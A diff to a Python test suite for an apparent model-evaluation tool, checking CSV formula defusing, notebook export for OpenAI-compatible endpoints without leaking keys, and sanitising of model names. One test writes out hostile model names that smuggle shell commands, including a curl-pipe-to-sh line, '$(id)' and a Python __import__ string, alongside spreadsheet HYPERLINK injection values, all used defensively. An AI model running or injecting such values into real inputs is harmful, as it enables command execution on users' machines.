@@ -57,7 +57,7 @@ def finished_run(tmp_path):
         temperatures=(0.0, 0.7),
     )
     run_id = store.create_run(cfg)
-    answers = ['=HYPERLINK("http://x")', "- a list item", "c = sqrt(a^2 + b^2)", 'héllo, "quoted"\nline'] * 4
+    answers = ['=HYPERLINK("http://x")', '-1+HYPERLINK("http://x")', "c = sqrt(a^2 + b^2)", 'héllo, "quoted"\nline'] * 4
     backends = {"ollama": Backend(answers[:8]), "embedded": Backend(answers[8:])}
     execute_run(store, run_id, backends, scorer=lambda a, r: [0.5] * len(a))
     yield store.get_run(run_id), store.results(run_id)
@@ -72,7 +72,8 @@ def test_csv_has_every_answer_with_stats_and_score_and_defuses_formulas(finished
     assert len(parsed) == len(rows) == 16 and tuple(parsed[0]) == COLUMNS
     answers = {p["answer"] for p in parsed}
     assert '\'=HYPERLINK("http://x")' in answers, "a formula-looking answer is prefixed for spreadsheets"
-    assert {"- a list item", 'héllo, "quoted"\nline'} <= answers, "ordinary text is unchanged"
+    assert '\'-1+HYPERLINK("http://x")' in answers, "every cell starting with - is a formula to a spreadsheet (OWASP)"
+    assert {"c = sqrt(a^2 + b^2)", 'héllo, "quoted"\nline'} <= answers, "ordinary text is unchanged"
     assert {p["score"] for p in parsed} == {"0.5"} and {p["tokens_per_second"] for p in parsed} == {"20.0"}
 
 
@@ -97,7 +98,9 @@ def test_notebook_is_valid_nbformat_with_the_articles_steps(finished_run):
     assert code[3].splitlines() == ["!ollama pull llama3.2", "!ollama pull smollm2:135m"]
     assert "from langchain_ollama.llms import OllamaLLM" in code[1]
     assert "chain = prompt | model" in text and 'SentenceTransformer("sentence-transformers/all-MiniLM-L6-v2")' in text
-    assert "What SLM Explorer measured" in nb.cells[-1].source and "| ollama:llama3.2 | 0.500 |" in nb.cells[-1].source
+    assert (
+        "What SLM Explorer measured" in nb.cells[-1].source and "| ollama\\:llama3\\.2 | 0.500 |" in nb.cells[-1].source
+    )
     for source in code:  # every code cell is valid Python once the shell lines are dropped
         compile("\n".join(line for line in source.splitlines() if not line.startswith("!")), "cell", "exec")
 
@@ -175,3 +178,116 @@ def test_notebook_code_runs_end_to_end_with_stand_in_libraries(finished_run, mon
     assert list(board.index) == ["embedded:smollm2-135m", "ollama:llama3.2"]
     assert board["mean_similarity"].tolist() == pytest.approx([1.0, 1.0])
     assert board["stability"].tolist() == pytest.approx([0.0, 0.0])
+
+
+# ---- runs on OpenAI-compatible endpoints ----------------------------------------------------------
+
+
+def _openai_run(tmp_path, models):
+    from slm_lib.eval.store import RunRecord
+
+    cfg = RunConfig(models=models, questions=QUESTIONS, template=TEMPLATE, system_prompt="Be brief.", repeats=1)
+    return RunRecord(7, "2026-01-01T00:00:00+00:00", "2026-01-01T00:00:00+00:00", "finished", cfg)
+
+
+def _stand_in_openai(monkeypatch, calls):
+    class Completions:
+        def __init__(self, client):
+            self.client = client
+
+        def create(self, **kw):
+            calls.append((self.client, kw))
+            message = types.SimpleNamespace(content=f"answer from {kw['model']}")
+            return types.SimpleNamespace(choices=[types.SimpleNamespace(message=message)])
+
+    class OpenAI:
+        def __init__(self, base_url, api_key):
+            self.base_url, self.api_key = base_url, api_key
+            self.chat = types.SimpleNamespace(completions=Completions(self))
+
+    monkeypatch.setitem(sys.modules, "openai", types.SimpleNamespace(OpenAI=OpenAI))
+
+
+def test_notebook_reproduces_openai_endpoints_without_ever_holding_a_key(tmp_path, monkeypatch):
+    from slm_lib.backends.openai_endpoints import Endpoint
+    from slm_lib.eval.notebook_openai import PLACEHOLDER_BASE_URL
+    from slm_lib.eval.prompting import build_messages
+
+    models = ("ollama:llama3.2", "openai:local//models/smollm2", "openai:fleet/Qwen/Qwen2.5-1.5B-Instruct")
+    record = _openai_run(tmp_path, models)
+    endpoints = [Endpoint("local", "127.0.0.1:8000", api_key="sk-never-in-a-notebook")]
+    raw = notebook_bytes(record, endpoints=endpoints)
+    assert b"sk-never" not in raw
+    nb = nbformat.reads(raw.decode(), as_version=4)
+    nbformat.validate(nb)
+    code = [c.source for c in nb.cells if c.cell_type == "code"]
+    assert code[0].endswith("pandas openai") and code[3] == "!ollama pull llama3.2", "no shell line for endpoints"
+    constants = {}
+    for node in ast.parse(code[4]).body:
+        if isinstance(node, ast.Assign) and node.targets[0].id in ("ENDPOINTS", "OPENAI_MODELS", "MODELS"):
+            constants[node.targets[0].id] = ast.literal_eval(node.value)
+    assert constants == {
+        "MODELS": {"ollama:llama3.2": "llama3.2"},
+        "ENDPOINTS": {"local": "http://127.0.0.1:8000/v1", "fleet": PLACEHOLDER_BASE_URL},
+        "OPENAI_MODELS": {
+            "openai:local//models/smollm2": ["local", "/models/smollm2"],
+            "openai:fleet/Qwen/Qwen2.5-1.5B-Instruct": ["fleet", "Qwen/Qwen2.5-1.5B-Instruct"],
+        },
+    }
+    assert "Step 6b" in "\n".join(c.source for c in nb.cells)
+
+    calls = []
+    _stand_in_openai(monkeypatch, calls)
+    monkeypatch.setenv("OPENAI_API_KEY_LOCAL", "sk-from-the-environment")
+    monkeypatch.setattr("getpass.getpass", lambda prompt: "")
+    namespace: dict = {"time": __import__("time")}
+    for source in (code[4].split("\nif SYSTEM_PROMPT:")[0], code[6]):  # constants (not the langchain prompt), 6b
+        exec(compile(source, "cell", "exec"), namespace)
+    assert len(namespace["results"]) == len(calls) == 2 * len(QUESTIONS)
+    client, kw = calls[0]
+    assert (client.base_url, client.api_key) == ("http://127.0.0.1:8000/v1", "sk-from-the-environment")
+    assert calls[-1][0].api_key == "none", "an endpoint without a key sends a placeholder, as the client requires"
+    assert kw["messages"] == build_messages(TEMPLATE, QUESTIONS[0].question, "Be brief."), "the app's exact messages"
+    assert (kw["model"], kw["max_tokens"], kw["seed"], kw["temperature"]) == ("/models/smollm2", 128, 0, 0.0)
+
+
+def test_a_notebook_for_endpoints_only_skips_ollama_and_runs(tmp_path, monkeypatch):
+    record = _openai_run(tmp_path, ("openai:local/smollm2",))
+    nb = build_notebook(record)
+    code = "\n".join(c.source for c in nb.cells if c.cell_type == "code")
+    assert "ollama" not in code.lower() and "langchain_" not in code, "no Ollama to install, no LangChain to import"
+    calls = []
+    _stand_in_openai(monkeypatch, calls)
+    monkeypatch.setattr("getpass.getpass", lambda prompt: "typed-key")
+
+    class SentenceTransformer:
+        def __init__(self, name):
+            pass
+
+        def encode(self, texts, batch_size, normalize_embeddings):
+            return np.ones((len(texts), 4)) / 2.0
+
+    monkeypatch.setitem(
+        sys.modules, "sentence_transformers", types.SimpleNamespace(SentenceTransformer=SentenceTransformer)
+    )
+    monkeypatch.setitem(sys.modules, "IPython", types.SimpleNamespace())
+    monkeypatch.setitem(sys.modules, "IPython.display", types.SimpleNamespace(Markdown=str, display=lambda obj: None))
+    namespace: dict = {}
+    for source in [c.source for c in nb.cells if c.cell_type == "code"][1:]:  # everything but the pip line
+        exec(compile(source, "cell", "exec"), namespace)
+    assert calls[0][0].api_key == "typed-key" and len(namespace["results"]) == len(QUESTIONS)
+    assert list(namespace["board"].index) == ["openai:local/smollm2"]
+
+
+def test_hostile_model_names_never_reach_a_notebook_shell_line(tmp_path):
+    store = RunStore(tmp_path / "runs.sqlite3")
+    hostile = ("ollama:x; curl http://127.0.0.1:9/x | sh", "ollama:y$(id)", "ollama:{__import__('os')}")
+    cfg = RunConfig(models=(*hostile, "ollama:llama3.2:1b", "embedded:smollm2-135m"), questions=QUESTIONS)
+    record = store.get_run(store.create_run(cfg))
+    nb = build_notebook(record, [])
+    shell = [line for c in nb.cells if c.cell_type == "code" for line in c.source.splitlines() if line.startswith("!")]
+    pulls = [line for line in shell if line.startswith("!ollama pull")]
+    assert pulls == ["!ollama pull llama3.2:1b", "!ollama pull smollm2:135m"]
+    assert not any(bad in "\n".join(shell) for bad in ("curl http", "$(", "__import__"))
+    assert "Left out, because their names are not valid Ollama tags" in nb.cells[0].source
+    store.close()
